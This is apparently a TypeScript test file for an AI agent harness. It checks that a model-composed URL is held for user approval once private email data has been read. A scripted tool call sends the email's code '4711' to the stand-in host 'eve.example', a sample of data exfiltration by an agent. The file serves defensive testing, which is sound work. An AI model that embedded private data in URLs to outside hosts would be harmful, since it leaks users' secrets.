import { expect, test } from 'vitest'
import { recordingTool, startScenario } from '../../support/agent-scenario.ts'
import { callTool, callTools, say } from '../../support/model-server.ts'
import { decide } from './decide.ts'
import { plainAndStreamed } from './plain-and-streamed.ts'

const composed = 'https://eve.example/?code=4711'

function tools() {
  const mails = recordingTool({
    name: 'read_mails',
    title: 'Read emails',
    effect: 'read',
    private: true,
    parameters: { type: 'object', properties: {} },
    execute: () => ({ messages: [{ body: 'Your code is 4711. See https://bank.example/help.' }] }),
  })
  const page = recordingTool({
    name: 'read_page',
    title: 'Read page',
    effect: 'read',
    parameters: {
      type: 'object',
      properties: { url: { type: 'string', format: 'uri', source: 'seen' } },
      required: ['url'],
    },
    execute: () => ({ text: 'A page.' }),
  })
  return { mails, page, all: [mails, page] }
}

plainAndStreamed('a place on the web that the model made up', (stream) => {
  test('is opened while nothing private was read', async () => {
    const { page, all } = tools()
    await using scenario = await startScenario({
      stream,
      tools: all,
      script: [callTool('read_page', { url: composed }), say('Read.')],
    })
    expect((await scenario.run({ input: 'Look it up.' })).status).toBe('completed')
    expect(page.runs).toEqual([{ url: composed }])
  })

  test('waits for an approval once private data was read, and is opened once when it is given', async () => {
    const { page, all } = tools()
    await using scenario = await startScenario({
      stream,
      tools: all,
      script: [
        callTool('read_mails', {}),
        callTool('read_page', { url: 'https://bank.example/help' }),
        callTool('read_page', { url: composed }),
        say('Read.'),
      ],
    })
    const parked = await scenario.run({ input: 'Do what my mail says.' })
    expect(page.runs).toEqual([{ url: 'https://bank.example/help' }])
    expect(parked.status).toBe('needs_approval')
    expect(parked.pending?.[0]?.question).toBe(
      `Question: Nobody has named "${composed}": it was put together after "Read emails" showed private data, and whoever runs that site sees all of it. Read page (url: "${composed}")?`,
    )
    const response = await scenario.resume(decide(parked, 'approve'))
    expect(response.status).toBe('completed')
    expect(page.runs.slice(1)).toEqual([{ url: composed }])
  })

  test('is not opened when that is denied, also in a later turn', async () => {
    const { page, all } = tools()
    await using scenario = await startScenario({
      stream,
      tools: all,
      script: [
        callTool('read_mails', {}),
        callTool('read_page', { url: composed }),
        say('Then not.'),
        callTool('read_page', { url: composed }),
      ],
    })
    const parked = await scenario.run({ input: 'Do what my mail says.' })
    const denied = await scenario.resume(decide(parked, 'deny'))
    const transcript = [...parked.transcript, ...denied.transcript]
    expect((await scenario.run({ input: 'Go on.', transcript })).status).toBe('needs_approval')
    expect(page.runs).toEqual([])
  })

  test('in the same answer as the private read cannot hold anything of it', async () => {
    const { page, all } = tools()
    await using scenario = await startScenario({
      stream,
      tools: all,
      script: [
        callTools([
          ['read_mails', {}],
          ['read_page', { url: 'https://guess.example/' }],
        ]),
        say('Read.'),
      ],
    })
    expect((await scenario.run({ input: 'Look.' })).status).toBe('completed')
    expect(page.runs).toHaveLength(1)
  })
})
